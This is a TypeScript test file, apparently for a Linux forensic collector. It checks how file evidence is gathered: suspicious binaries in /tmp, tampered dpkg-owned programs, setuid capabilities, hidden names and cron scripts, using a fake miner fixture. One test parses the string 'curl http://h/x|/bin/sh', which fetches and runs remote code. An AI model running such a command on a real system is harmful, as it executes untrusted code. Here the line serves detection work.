import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { test } from 'node:test'
import fc from 'fast-check'
import { elfOf } from '../../test/elf.ts'
import { autostartOf, processOf } from '../../test/facts.ts'
import { entity } from '../core/entity.ts'
import type { FileFact } from '../core/facts/file.ts'
import { type Facts, factsOf } from '../core/facts.ts'
import { isGap } from '../core/gap.ts'
import { memoryHost, type Node } from '../host/memory.ts'
import { pathsOfCommand } from './file-subjects/autostarts.ts'
import { files } from './files.ts'

const md5 = (text: string) => createHash('md5').update(text).digest('hex')
const collect = (tree: Record<string, Node>, facts: Partial<Facts> = {}, leads: ReadonlySet<`file:${string}`> = new Set()) => {
  const rows = [...files.collect(memoryHost(tree), factsOf(facts), leads)]
  return { gaps: rows.filter(isGap), files: new Map(rows.flatMap(row => (isGap(row) ? [] : [row[1] as FileFact])).map(f => [f.path, f])) }
}
const miner = Buffer.concat([elfOf({ type: 2 }), Buffer.from('\0stratum+tcp://pool.example.org:3333\0')])
const dpkg = {
  '/var/lib/dpkg/status': 'Package: x\nStatus: install ok installed\n',
  '/var/lib/dpkg/info/x.list': '/usr/bin/good\n/usr/bin/bad\n/usr/bin/wget\n',
  '/var/lib/dpkg/info/x.md5sums': `${md5('good')}  usr/bin/good\n${md5('was good')}  usr/bin/bad\n`,
}

test('a running program in /tmp: hash, ELF, strings, and its configuration beside', () => {
  const exe = { path: '/tmp/.x/k', deleted: false, memfd: false }
  const found = collect({ '/tmp/.x/k': miner, '/tmp/.x/config.json': '{"pools":[]}' }, { processes: [processOf({ pid: 7, exe })] })
  const file = found.files.get('/tmp/.x/k')
  assert.deepEqual(file?.roles.includes('running') && file.elf?.strings, ['stratum+tcp://pool.example.org:3333'])
  assert.equal(file?.sha256, createHash('sha256').update(miner).digest('hex'))
  assert.equal(found.files.get('/tmp/.x/config.json')?.head, '{"pools":[]}')
})

test('a deleted program is read through /proc/PID/exe; one in a container through /proc/PID/root', () => {
  const gone = processOf({ pid: 7, exe: { path: '/tmp/k', deleted: true, memfd: false } })
  const container = entity('container', 'c1')
  const inside = processOf({ pid: 8, exe: { path: '/opt/m', deleted: false, memfd: false, dev: '9:9', ino: 99 }, container })
  const found = collect({ '/proc/7/exe': miner, '/proc/8/root/opt/m': miner }, { processes: [gone, inside] })
  assert.equal(found.files.get('/tmp/k')?.magic, 'elf')
  assert.equal(found.files.get('/proc/8/root/opt/m')?.container, container)
})

test('ownership by dpkg: intact, modified, unowned; a followed link', () => {
  const commands = ['/usr/bin/good', '/usr/bin/bad', '/opt/mine', '/etc/alternatives/good']
  const autostarts = commands.map((command, i) => autostartOf({ path: '/etc/cron.d/x', line: i + 1, command }))
  const tree = {
    ...dpkg,
    '/usr/bin/good': 'good',
    '/usr/bin/bad': 'evil',
    '/opt/mine': '#!/bin/sh\n',
    '/etc/alternatives/good': { link: '/usr/bin/good' },
  }
  const found = collect({ ...tree, '/etc/cron.d/x': 'x' }, { autostarts }).files
  assert.deepEqual(
    commands.map(path => found.get(path)?.packaged),
    ['intact', 'modified', 'unowned', undefined],
  )
  assert.equal(found.get('/etc/alternatives/good')?.target, '/usr/bin/good')
  assert.deepEqual([found.get('/usr/bin/good')?.head, found.get('/opt/mine')?.head], [undefined, '#!/bin/sh\n'])
})

test('flags, capabilities, hidden and trick names, unpackaged commands, and no private keys', () => {
  const setuid = Uint8Array.of(1, 0, 0, 2, 128, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
  const found = collect({
    ...dpkg,
    '/usr/bin/perfcc': { content: miner, mode: 0o755, xattrs: { 'security.capability': setuid } },
    '/etc/cron.d/': { type: 'directory', immutable: true },
    '/usr/lib/.z/m': miner,
    '/usr/sbin/nologin ': 'x',
    '/root/.ssh/authorized_keys': { content: 'ssh-ed25519 AAAAC3 me', immutable: true },
    '/tmp/key': '-----BEGIN OPENSSH PRIVATE KEY-----\nsecret',
    '/tmp/photo.bin': new Uint8Array(9),
  }).files
  assert.equal(found.get('/usr/bin/perfcc')?.capabilities, 'cap_setuid+ep')
  assert.equal(found.get('/etc/cron.d')?.stat.immutable, true)
  assert.ok(found.has('/usr/lib/.z/m') && found.has('/usr/sbin/nologin '))
  assert.equal(found.get('/root/.ssh/authorized_keys')?.stat.immutable, true)
  assert.equal(found.get('/tmp/key')?.head, undefined)
  assert.equal(found.has('/tmp/photo.bin'), false)
})

test('a crowded temporary place is cut short, and says so; an unreadable one too', () => {
  const many = Object.fromEntries(Array.from({ length: 2100 }, (_, i) => [`/tmp/f${i}.sh`, '#!/bin/sh\n']))
  assert.deepEqual(
    collect(many).gaps.map(g => [g.source, g.why]),
    [['/tmp', 'capped']],
  )
  assert.deepEqual(
    collect({ '/var/tmp/': { type: 'directory' }, '/tmp/a/': { type: 'directory', gap: 'denied' } }).gaps.map(g => g.why),
    ['denied'],
  )
})

test('second pass: everything beside a lead', () => {
  const tree = { '/opt/app/run': miner, '/opt/app/pools.dat': 'x', '/opt/other/y': 'y' }
  assert.deepEqual([...collect(tree, {}, new Set(['file:/opt/app/run'])).files.keys()], ['/opt/app/run', '/opt/app/pools.dat'])
})

test('second pass: what an accused script names, wherever it lies, and nothing that an ordinary one names', () => {
  const tree = {
    '/etc/cron.hourly/x.sh': '#!/bin/sh\ncp /lib/copy.so /lib/copy.so.6; ls /lib\n',
    '/lib/copy.so': miner,
    '/lib/other.so': miner,
  }
  const lead = entity('file', '/etc/cron.hourly/x.sh')
  const autostarts = [autostartOf({ path: '/etc/cron.hourly/x.sh', command: '/etc/cron.hourly/x.sh' })]
  const files = [...collect(tree, { autostarts }).files.values()]
  assert.deepEqual(
    files.map(f => f.path),
    ['/etc/cron.hourly/x.sh'],
  )
  const again = collect(tree, { files }, new Set([lead])).files
  assert.deepEqual([...again.keys()], ['/etc/cron.hourly/x.sh', '/lib/copy.so'])
  assert.deepEqual(again.get('/lib/copy.so')?.roles, ['neighbour'])
})

test('paths of a command', () => {
  assert.deepEqual(pathsOfCommand('cd /opt/a && X=/etc/x "/tmp/.a b/c" >/dev/null 2>&1; curl http://h/x|/bin/sh'), [
    '/opt/a',
    '/etc/x',
    '/tmp/.a',
    '/bin/sh',
  ])
  fc.assert(fc.property(fc.string(), text => pathsOfCommand(text).every(path => path.startsWith('/') && text.includes(path))))
})
